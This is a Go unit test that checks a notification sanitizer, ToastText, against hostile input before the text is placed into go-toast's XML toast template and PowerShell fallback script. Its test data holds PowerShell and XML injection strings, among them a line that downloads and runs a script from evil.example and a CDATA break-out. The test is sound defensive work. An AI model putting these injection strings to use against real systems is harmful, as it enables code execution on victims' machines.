package notify

import (
	"bytes"
	"encoding/xml"
	"strings"
	"testing"

	"git.sr.ht/~jackmordaunt/go-toast/v2/tmpl"
)

// TestToastTextCannotEscapeGoToastsScript renders go-toast's own templates,
// the XML and the PowerShell script it runs when WinRT fails, with hostile
// customer text made safe by ToastText: the XML parses with the text whole
// in its element, and the script's here-string holds no "$", no escape
// character and no line that would end it early.
func TestToastTextCannotEscapeGoToastsScript(t *testing.T) {
	hostile := []string{
		"Refund of $50 for $(Start-Process calc) ${env:USERPROFILE} $env:TEMP",
		"Anna\n\"@\nStart-Process calc\n@\"",
		"Anna\r\n\"@ ; iwr https://evil.example/x.ps1 | iex #",
		"]]></text><image placement=\"hero\" src=\"https://evil.example/t.png\"/><text><![CDATA[",
		"back`tick `$(calc) and `\"@",
		"ctrl \x00\x01\x1b[31m \u0085 \u2028 line \xff bytes",
	}
	for _, h := range hostile {
		safe := ToastText(h)
		for _, bad := range []string{"$", "`", "\n", "\r", "]]>", "\x00", "\u2028", "\u0085"} {
			if strings.Contains(safe, bad) {
				t.Errorf("ToastText(%q) = %q still holds %q", h, safe, bad)
			}
		}
		var x bytes.Buffer
		data := struct {
			ActivationType, ActivationArguments, Duration, HeroIcon, Icon, IconCrop, Title, Body, Audio string
			Loop                                                                                        bool
			Actions, Inputs                                                                             []struct{}
		}{ActivationType: "foreground", ActivationArguments: "payload", Duration: "short", Title: "SLA breached", Body: safe, Audio: "silent"}
		if err := tmpl.XMLTemplate.Execute(&x, data); err != nil {
			t.Fatal(err)
		}
		var toast struct {
			Texts []string `xml:"visual>binding>text"`
		}
		if err := xml.Unmarshal(x.Bytes(), &toast); err != nil {
			t.Fatalf("the toast XML for %q does not parse: %v\n%s", h, err, x.String())
		}
		if len(toast.Texts) != 2 || toast.Texts[1] != safe {
			t.Errorf("the toast for %q shows %q; want the title and %q", h, toast.Texts, safe)
		}
		var script bytes.Buffer
		if err := tmpl.ScriptTemplate.Execute(&script, struct{ AppID, XML string }{"Stormdesk", x.String()}); err != nil {
			t.Fatal(err)
		}
		s := script.String()
		start, end := strings.Index(s, "@\"\n"), strings.LastIndex(s, "\n\"@")
		if start < 0 || end < start {
			t.Fatalf("no here-string in go-toast's script:\n%s", s)
		}
		inside := s[start+3 : end]
		if strings.ContainsAny(inside, "$`") {
			t.Errorf("the here-string for %q holds $ or `, which PowerShell expands:\n%s", h, inside)
		}
		for _, line := range strings.Split(inside, "\n") {
			if strings.HasPrefix(strings.TrimLeft(line, " \t"), "\"@") {
				t.Errorf("a line of the here-string for %q ends it early: %q", h, line)
			}
		}
	}
	if got := ToastText("  Olga:\twhere is my  refund? "); got != "Olga: where is my refund?" {
		t.Errorf("plain text = %q", got)
	}
}
